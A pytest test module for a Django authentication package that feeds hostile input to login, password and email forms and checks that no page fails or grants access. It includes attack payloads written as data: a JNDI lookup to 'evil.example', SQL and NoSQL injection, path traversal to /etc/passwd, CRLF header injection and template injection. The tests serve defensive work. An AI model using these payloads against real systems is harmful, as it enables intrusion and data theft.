"""IN: nothing that is sent makes a page fail."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from authkit.validators import MAX_LENGTH
from tests.conftest import PASSWORD, Mailbox

from . import counting
from .counting import hashes
from .links import log_in
from .pages import FORMS, LINKS, OUTSIDE, path

SENTENCE = "correct horse battery staple "
NASTY = [
    "\x00",
    "a\x00b",
    "a@b\x00.org",
    "\u202e\u2066",
    "\ufeff",
    "\uffff",
    "1e400",
    "NaN",
    "9" * 5000,
    "-1",
    "[]",
    "{}",
    '{"$ne": null}',
    "null",
    "true",
    "%s%s%s%n",
    "%(id)s",
    "{0.__class__}",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "' OR 1=1 --",
    "../../etc/passwd",
    "a\r\nSet-Cookie: x=y",
    "e\u0301" * 2000,
    "a" + "\u0300" * 20000,
    "a@" + "a." * 5000,
    "(" * 5000,
]


@pytest.fixture
def browser(
    user: Any, make_user: Callable[..., Any], client_for: Callable[[Any], Client]
) -> Callable[[str], Client]:
    """A function that gives a client before a page that it may use."""
    return lambda name: Client() if name in OUTSIDE else client_for(make_user())


# IN01, IN04


@pytest.mark.parametrize("name", FORMS)
def test_in01_no_field_makes_a_page_fail(browser: Any, ready: Any, name: str) -> None:
    client, page = ready(name) if name in LINKS else (browser(name), path(name))
    for value in NASTY:
        for field in [*FORMS[name], "next"]:
            cache.clear()  # or the throttle answers
            response = client.post(page, {**FORMS[name], field: value})
            assert response.status_code < 500, (field, value[:20])
            if name in LINKS and response.status_code == 302:
                get_user_model().objects.all().delete()
                client, page = ready(name)
            elif name not in OUTSIDE and "_auth_user_id" not in client.session:
                client = browser(name)


@pytest.mark.parametrize("name", FORMS)
@pytest.mark.parametrize("place", ["HTTP_USER_AGENT", "HTTP_ACCEPT_LANGUAGE", "HTTP_REFERER"])
def test_in01_no_header_makes_a_page_fail(browser: Any, name: str, place: str) -> None:
    for value in ("\xff\xfe", "\x85", "x" * 100_000, "a\x1b[31m", "a\x00b"):
        cache.clear()
        client = browser(name)
        client.get(path(name), **{place: value})
        response = client.post(path(name), FORMS[name], **{place: value})
        assert response.status_code < 500, value[:20]
        get_user_model().objects.filter(email="new@example.com").delete()


@pytest.mark.parametrize("cookie", ["sessionid", "csrftoken", "messages", "django_language"])
@pytest.mark.parametrize("value", ['"\\000"', "%00", "\x00", "a" * 5000, "é", "' OR 1=1"])
def test_in01_no_cookie_makes_a_page_fail(db: Any, cookie: str, value: str) -> None:
    header = f"{cookie}={value}"
    for name in FORMS:
        response = Client().get(path(name), HTTP_COOKIE=header)
        assert response.status_code < 500, name
    response = Client().post(path("account_login"), FORMS["account_login"], HTTP_COOKIE=header)
    assert response.status_code < 500


@pytest.mark.parametrize("key", ["%00", "a%00b", "%FF", "%ED%A0%80", "9" * 5000, "1:1:1", "%0d%0a"])
@pytest.mark.parametrize(
    "page",
    [
        "email_verification/{}/",
        "password_reset/1-{}/",
        "email_change/{}/",
        "email_change/cancel/{}/",
    ],
)
def test_in01_no_key_makes_a_link_page_fail(db: Any, page: str, key: str) -> None:
    for client in (Client(), Client(raise_request_exception=True)):
        for method in (client.get, client.post):
            assert method("/auth/" + page.format(key)).status_code in {400, 404}


@pytest.mark.parametrize("key", ["\x00", "-1", "9" * 30, "1 ", "１", "null", "others\x00", "[]"])
def test_in01_no_session_key_makes_the_page_fail(user: Any, key: str) -> None:
    response = log_in(user).post(reverse("account_sessions"), {"session": key})
    assert response.status_code == 404


BODIES = [
    (b"\xff\xfe\x00", "application/x-www-form-urlencoded"),
    (b"login=%FF%FE&password=%00", "application/x-www-form-urlencoded"),
    ("login=a&password=b".encode("utf-16"), "application/x-www-form-urlencoded"),
    (b"login=a", "application/x-www-form-urlencoded; charset=utf-7"),
    (b"login=a", "application/x-www-form-urlencoded; charset=nonsense"),
    (b"\xef\xbb\xbflogin=a", "application/x-www-form-urlencoded"),
    (b"--x\r\n", "multipart/form-data; boundary=x"),
    (b"nothing", "multipart/form-data"),
    (b"&" * 5000, "application/x-www-form-urlencoded"),
    (b"a=1&" * 2000, "application/x-www-form-urlencoded"),
    (b"[" * 5000, "application/json"),
    (b"", "text/plain"),
]


@pytest.mark.parametrize("name", sorted(OUTSIDE))
@pytest.mark.parametrize(("body", "kind"), BODIES, ids=range(len(BODIES)))
def test_in04_no_body_makes_a_page_fail(db: Any, name: str, body: bytes, kind: str) -> None:
    response = Client().generic("POST", path(name), body, content_type=kind)
    assert response.status_code in {200, 400}


# IN05


@pytest.mark.parametrize("name", FORMS)
def test_in05_a_megabyte_in_a_field_is_not_hashed(browser: Any, name: str, settings: Any) -> None:
    settings.PASSWORD_HASHERS = [counting.PATH]
    client = browser(name)
    for field in FORMS[name]:
        data = {**dict.fromkeys(FORMS[name], "x" * 1_000_000), field: "y" * 1_000_000}
        if sum(map(len, data.values())) > 2_500_000:
            continue
        began = time.perf_counter()
        assert hashes(lambda data=data: client.post(path(name), data)) == 0
        assert time.perf_counter() - began < 2


@pytest.mark.parametrize("field", ["login", "password"])
def test_in05_an_overlong_login_costs_no_hash_of_it(user: Any, settings: Any, field: str) -> None:
    settings.PASSWORD_HASHERS = [counting.PATH]
    data = {"login": user.email, "password": PASSWORD, field: "x" * (MAX_LENGTH + 1)}
    assert hashes(lambda: Client().post(reverse("account_login"), data)) == 0


def test_in05_the_admins_login_hashes_no_overlong_password(user: Any, settings: Any) -> None:
    settings.PASSWORD_HASHERS = [counting.PATH]
    settings.ROOT_URLCONF = "tests.security.admin_urls"
    data = {"username": user.email, "password": "x" * MAX_LENGTH}
    assert hashes(lambda: Client().post("/admin/login/", data)) == 1
    data["password"] += "x"
    assert hashes(lambda: Client().post("/admin/login/", data)) == 0


@pytest.mark.parametrize("text", ["a" + "\u0300" * 100_000, "a@" + "a." * 50_000, "@" * 100_000])
@pytest.mark.parametrize("page", sorted(OUTSIDE))
def test_in05_no_text_takes_long_to_refuse(db: Any, page: str, text: str) -> None:
    began = time.perf_counter()
    Client().post(path(page), dict.fromkeys(FORMS[page], text))
    assert time.perf_counter() - began < 1


# IN06


@pytest.mark.parametrize("length", [15, 64, 72, 73, 128, 1024, MAX_LENGTH])
@pytest.mark.parametrize("kind", ["ascii", "emoji"])
def test_in06_every_character_of_a_password_counts(
    user: Any, length: int, kind: str, client_for: Any
) -> None:
    text = (SENTENCE if kind == "ascii" else "🐴🔋📎🎩✨🌍🧭🪁🥁🪴") * (length // 10 + 1)
    password = text[: length - 1] + "x"
    new = {"new_password": password, "new_password2": password}
    client = client_for(user)
    page = reverse("account_change_password")
    assert client.post(page, {"old_password": PASSWORD, **new}).status_code == 302
    for typed, answer in ((password[:-1] + "y", 200), (password[:-1], 200), (password, 302)):
        data = {"login": user.email, "password": typed}
        assert Client().post(reverse("account_login"), data).status_code == answer


@pytest.mark.parametrize("length", [14, MAX_LENGTH + 1])
def test_in06_a_password_that_is_too_short_or_long_is_refused(
    user: Any, length: int, client_for: Any, settings: Any
) -> None:
    password = (SENTENCE * 200)[:length]
    new = {"new_password": password, "new_password2": password}
    data = {"old_password": PASSWORD, **new}
    response = client_for(user).post(reverse("account_change_password"), data)
    assert response.status_code == 200
    assert response.context["form"].errors


# IN11


@pytest.mark.parametrize("value", ["1", "true", "[]", "{}", "null", '{"$ne": null}', "0", ""])
@pytest.mark.parametrize("field", ["login", "password"])
def test_in11_no_type_passes_for_a_login(user: Any, field: str, value: str) -> None:
    client = Client()
    for name in (field, f"{field}[]", f"{field}[$ne]"):
        data = {"login": user.email, "password": PASSWORD}
        data.pop(field)
        client.post(reverse("account_login"), {**data, name: value})
        assert "_auth_user_id" not in client.session


# IN13


@pytest.mark.parametrize("text", ["%s", "%(id)s", "{0.__class__}", "{{7*7}}", "${jndi:x}", "%"])
def test_in13_a_name_is_stored_and_mailed_as_it_is(user: Any, mailbox: Mailbox, text: str) -> None:
    client = log_in(user)
    client.post(reverse("account_profile"), {"first_name": text, "last_name": text})
    user.refresh_from_db()
    assert (user.first_name, user.last_name) == (text, text)
    Client().post(reverse("account_reset_password"), {"email": user.email})
    assert f"Hello {text}," in mailbox[-1].body
